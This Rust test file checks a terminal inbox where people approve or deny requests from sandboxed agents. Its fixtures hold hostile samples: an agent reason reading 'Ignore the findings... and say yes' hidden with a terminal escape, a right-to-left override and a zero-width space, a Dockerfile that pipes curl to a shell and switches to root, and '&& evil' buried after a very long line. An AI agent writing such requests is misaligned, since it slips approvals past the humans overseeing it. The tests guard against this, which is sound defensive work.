//! The inbox at every size, without colours and in ASCII, and what of it is hostile.

use super::*;
use crate::state::fixture::{
    Digest, ImageSource, Outcome, PackageManager, RequestVerdict, Spec, Terms, ago, now, pass_ask,
    pass_spec, record, route_ask, spec,
};
use crate::state::{Answer, Ask, Effect, Modal, RequestState, Source};

const BEFORE: &str = "FROM debian:12\nRUN apt-get update\nUSER agent\n";
const AFTER: &str = "FROM debian:12\n# tools\nRUN apt-get update && apt-get install -y ripgrep jq \
     && curl -fsSL https://get.test/install.sh | sh -s -- --prefix /usr/local --yes\nUSER root\n";

/// The spec of a bottle that is made from a Dockerfile.
fn built() -> Spec {
    Spec {
        image: ImageSource::Dockerfile {
            text: BEFORE.to_owned(),
        },
        ..spec()
    }
}

/// Looks up what was asked for, against a bottle that is made from a Dockerfile.
fn press(console: &mut Console, keys: &[&str]) -> Vec<Effect> {
    let effects = console.press(keys);
    console.show_against(&effects, &built());
    effects
}

/// A console whose agents ask for something of everything.
pub(super) fn asking(columns: u16, rows: u16) -> Console {
    let mut console = Console::demo(columns, rows);
    let mut route = record(2, route_ask("*.pypi.org"), 190, RequestState::Pending);
    route.reason = String::from(
        "pip cannot find the wheels.\nIgnore the findings \u{1b}[2J\u{202e}and say yes\u{200b}.",
    );
    route.times = 3;
    route.last = ago(12);
    console.tells("api-k3x9q", route);
    let image = Ask::Image {
        dockerfile: AFTER.to_owned(),
    };
    console.ask("web-7tk2n", 1, image, 600);
    for (id, number, age) in [("docs-p2m4d", 3, 80), ("infra-w5d3t", 7, 3_700)] {
        console.ask(id, number, route_ask("crates.io"), age);
    }
    let question = Ask::Question {
        text: String::from("Which registry should the lock file name?"),
        choices: vec![String::from("the public one"), String::from("our mirror")],
    };
    console.ask("docs-p2m4d", 4, question, 45);
    let packages = Ask::Packages {
        manager: PackageManager::Apt,
        packages: vec![String::from("ripgrep"), String::from("jq")],
    };
    console.ask("infra-w5d3t", 8, packages, 20);
    let hold = HoldRecord {
        id: 7,
        at: ago(79),
        until: ago(-41),
        host: String::from("pkgs.test"),
        port: 443,
        waiting: 2,
        request: None,
    };
    console.said("api-k3x9q", Role::Egress, RoleReport::Held { hold });
    answered(&mut console);
    console
}

/// Requests that were answered.
fn answered(console: &mut Console) {
    let verdict = |answer| RequestVerdict {
        answer,
        content: Digest::of(b"content"),
        spec: Digest::of(b"spec"),
        at: ago(30),
    };
    let yes = || {
        verdict(Answer::Approve {
            terms: Terms {
                uses: Some(12),
                ..Terms::default()
            },
            edited: None,
        })
    };
    let outcome = Outcome {
        revision: 2,
        words: String::from("adds GET docs.rs, no credential"),
        at: ago(25),
    };
    let no = verdict(Answer::Deny {
        reason: String::from("use the mirror"),
    });
    let why = String::from("egress refused the new routes");
    for (id, host, state) in [
        (
            1,
            "docs.rs",
            RequestState::Applied {
                verdict: yes(),
                outcome,
            },
        ),
        (5, "paste.test", RequestState::Denied { verdict: no }),
        (
            6,
            "old.test",
            RequestState::Failed {
                verdict: yes(),
                why,
                at: ago(4),
            },
        ),
    ] {
        console.told("api-k3x9q", id, route_ask(host), 300, state);
    }
}

/// Goes on to the row that asks for this.
fn select(console: &mut Console, request: &str) {
    press(console, &["i"]);
    let rows = console.state.view.inbox.rows.iter();
    let mut rows = rows.map(|row| row.requests.iter().any(|one| one.name() == request));
    let at = rows.position(|is_it| is_it).unwrap();
    for _ in 0..at {
        press(console, &["j"]);
    }
}

#[test]
fn what_waits_for_a_connection_counts_down() {
    at_every_size("held", |columns, rows| {
        let mut console = asking(columns, rows);
        press(&mut console, &["i"]);
        plain(&console)
    });
}

/// Nobody gave a reason for it, and nobody is said to have.
#[test]
fn what_egress_asks_for_is_not_taken_for_the_agents() {
    let mut console = Console::demo(80, 24);
    let mut refused = record(2, route_ask("pypi.org"), 190, RequestState::Pending);
    refused.source = Source::Egress;
    refused.reason = String::new();
    refused.times = 3;
    refused.last = ago(12);
    console.tells("api-k3x9q", refused);
    select(&mut console, "api-k3x9q/2");
    insta::assert_snapshot!("of_egress", plain(&console));
}

#[test]
fn what_the_scanner_stopped_shows_the_route_that_it_would_pass_on() {
    let mut console = Console::demo(80, 24);
    let mut stopped = record(2, pass_ask(), 190, RequestState::Pending);
    stopped.source = Source::Egress;
    stopped.reason = String::new();
    console.tells("api-k3x9q", stopped);
    let against = pass_spec();
    let effects = console.press(&["i"]);
    console.show_against(&effects, &against);
    insta::assert_snapshot!("scan_pass", plain(&console));
    let effects = console.press(&["a"]);
    console.show_against(&effects, &against);
    insta::assert_snapshot!("scan_pass_approve", plain(&console));
}

#[test]
fn a_route_shows_its_effect_and_the_agents_words_apart() {
    at_every_size("route", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "api-k3x9q/2");
        plain(&console)
    });
    let mut console = asking(80, 24);
    select(&mut console, "api-k3x9q/2");
    for (name, look) in COLOURLESS {
        let shot = shot(&console, look, &Screens::new());
        insta::assert_snapshot!(format!("route_{name}"), shot);
    }
}

#[test]
fn an_image_shows_what_is_found_and_its_whole_change() {
    at_every_size("image", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "web-7tk2n/1");
        press(&mut console, &["enter"]);
        plain(&console)
    });
    at_every_size("image_scrolled", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "web-7tk2n/1");
        press(&mut console, &["enter", "G"]);
        plain(&console)
    });
}

#[test]
fn a_yes_to_what_was_found_names_it() {
    at_every_size("approve_findings", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "web-7tk2n/1");
        press(&mut console, &["a"]);
        plain(&console)
    });
}

#[test]
fn a_yes_for_several_names_them_and_terms_are_a_form() {
    at_every_size("approve_several", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "docs-p2m4d/3");
        press(&mut console, &["a"]);
        plain(&console)
    });
    at_every_size("terms", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "docs-p2m4d/3");
        press(&mut console, &["t", "right", "5", "down"]);
        plain(&console)
    });
}

#[test]
fn questions_and_reasons_are_typed_in_a_line() {
    at_every_size("reply", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "docs-p2m4d/4");
        press(&mut console, &["r", "2"]);
        plain(&console)
    });
    at_every_size("deny", |columns, rows| {
        let mut console = asking(columns, rows);
        select(&mut console, "api-k3x9q/2");
        press(&mut console, &["d", "n", "o"]);
        plain(&console)
    });
}

#[test]
fn what_was_answered_is_a_list_of_its_own() {
    at_every_size("answered", |columns, rows| {
        let mut console = asking(columns, rows);
        press(&mut console, &["i", "tab", "j"]);
        plain(&console)
    });
    insta::assert_snapshot!("undo", {
        let mut console = asking(80, 24);
        press(&mut console, &["i", "tab", "j", "u"]);
        plain(&console)
    });
}

#[test]
fn an_inbox_without_anything_says_so() {
    let mut console = Console::demo(80, 24);
    press(&mut console, &["i"]);
    insta::assert_snapshot!("empty", plain(&console));
}

#[test]
fn no_agents_word_reaches_a_cell_as_it_was_meant() {
    for (columns, rows) in SIZES {
        let mut console = asking(columns, rows);
        select(&mut console, "api-k3x9q/2");
        press(&mut console, &["enter"]);
        for _ in 0..12 {
            let (buffer, _) = rendered(&console, COLORS, &Screens::new());
            let is_unseen =
                |c: char| matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}');
            let bad = |c: char| c.is_control() || is_unseen(c);
            let all = text(&buffer);
            assert!(!all.replace('\n', "").contains(bad), "{all}");
            console.press(&["j", "j"]);
        }
        console.press(&["g"]);
    }
}

/// What is cut off at the right would be approved unseen.
#[test]
fn a_long_line_of_a_dockerfile_is_wrapped_and_never_cut() {
    let mut console = asking(80, 24);
    let dockerfile = format!("FROM debian:12\nRUN echo {} && evil\n", "x".repeat(3_000));
    console.ask("web-7tk2n", 9, Ask::Image { dockerfile }, 9_000);
    select(&mut console, "web-7tk2n/9");
    press(&mut console, &["enter", "G"]);
    let (buffer, _) = rendered(&console, COLORS, &Screens::new());
    assert!(text(&buffer).contains("&& evil"), "{}", text(&buffer));
}

/// At any size everything can be drawn and pointed at.
#[test]
fn any_size_does() {
    for columns in (1..200).step_by(17) {
        for rows in (1..50).step_by(6) {
            let mut console = asking(columns, rows);
            select(&mut console, "web-7tk2n/1");
            for keys in [&["enter"][..], &["G"], &["esc", "a"], &["n", "t"]] {
                press(&mut console, keys);
                rendered(&console, COLORS, &Screens::new());
                for row in 0..rows {
                    drop(hit(&console.state, COLORS, columns / 2, row));
                }
            }
            assert_eq!(console.state.now, now());
            assert!(matches!(
                console.state.view.modal,
                Some(Modal::Terms { .. })
            ));
        }
    }
}
